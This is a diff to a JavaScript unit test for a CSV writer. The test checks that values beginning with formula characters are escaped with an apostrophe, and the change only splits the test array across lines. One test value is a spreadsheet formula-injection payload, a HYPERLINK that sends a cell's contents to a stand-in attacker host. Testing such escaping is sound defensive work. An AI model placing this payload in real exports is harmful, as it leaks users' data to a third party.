@@ -9,7 +9,16 @@ describe('CSV (RFC 4180)', () => {
   });
 
   it('keeps a spreadsheet from reading a field as a formula: an apostrophe before =, +, -, @, tab or CR first', () => {
-    const values = ['=HYPERLINK("https://evil.example/?"&A2,"ok")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', 'me@example.org'];
+    const values = [
+      '=HYPERLINK("https://evil.example/?"&A2,"ok")',
+      '+1',
+      '-2',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      'a=b',
+      'me@example.org',
+    ];
     expect(toCsv(['v'], [values]).split('\r\n')[1]).toBe(
       `"'=HYPERLINK(""https://evil.example/?""&A2,""ok"")",'+1,'-2,'@SUM(A1),'\tx,"'\rx",a=b,me@example.org`,
     );
